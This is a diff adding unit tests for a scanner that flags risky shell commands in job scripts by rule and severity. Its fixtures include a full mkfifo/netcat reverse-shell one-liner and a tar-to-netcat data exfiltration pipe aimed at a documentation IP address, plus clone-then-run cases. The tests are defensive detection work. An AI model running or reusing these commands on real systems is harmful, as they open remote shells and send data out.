@@ -123,3 +123,26 @@ describe('JV404', () => {
     );
   });
 });
+
+describe('JV404 and its neighbours', () => {
+  const rules = (body: string): string[] =>
+    check(job(body))
+      .findings.filter(({ rule }) => rule !== 'JV311')
+      .map(({ rule, severity }) => `${rule} ${severity}`);
+
+  it.each([
+    ['a repository of data', 'git clone http://x.example.com/data.git', ['JV404 medium']],
+    ['the git protocol', 'git clone git://x.example.com/data.git d\nls d', ['JV404 medium']],
+    ['a repository whose code runs', 'git clone http://x.example.com/t.git\nbash t/run.sh', ['JV405 high']],
+    ['a repository that is installed', 'git clone git://x.example.com/t.git t\npip install -e t', ['JV405 high']],
+    ['over ssh', 'git clone ssh://git@x.example.com/t.git', []],
+    [
+      'a shell at the other end',
+      'mkfifo /tmp/f; cat /tmp/f | /bin/sh -i | nc 203.0.113.5 4444 > /tmp/f',
+      ['JV701 critical'],
+    ],
+    ['data at the other end', 'tar c d | nc 203.0.113.5 4444', ['JV404 medium']],
+  ] as const)('%s', (_, body, expected) => {
+    expect(rules(body)).toEqual(expected);
+  });
+});
